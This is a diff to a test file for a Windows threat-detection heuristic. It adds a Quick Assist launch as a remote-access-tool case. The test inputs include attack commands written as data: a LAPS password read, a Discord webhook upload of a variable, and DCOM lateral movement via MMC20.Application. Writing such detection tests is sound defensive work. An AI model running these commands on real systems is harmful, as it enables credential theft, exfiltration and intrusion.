@@ -59,6 +59,8 @@ def test_a_program_downloaded_into_a_user_folder_and_started_is_suspicious(scrip
      "heur.windows.kerberos_ticket_request"),
     ("Get-ADComputer -Filter * -Properties ms-Mcs-AdmPwd", "heur.windows.laps_password_read"),
     ('Start-Process "C:\\Users\\Public\\AnyDesk.exe"', "heur.windows.remote_access_tool"),
+    ('Start-Process "shell:AppsFolder\\MicrosoftCorporationII.QuickAssist_8wekyb3d8bbwe!App"',
+     "heur.windows.remote_access_tool"),
     ("Invoke-RestMethod -Uri https://discord.com/api/webhooks/1/abc -Method Post -Body $b",
      "heur.windows.webhook_upload"),
     ('[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","10.0.0.5")).Document.ActiveView.'
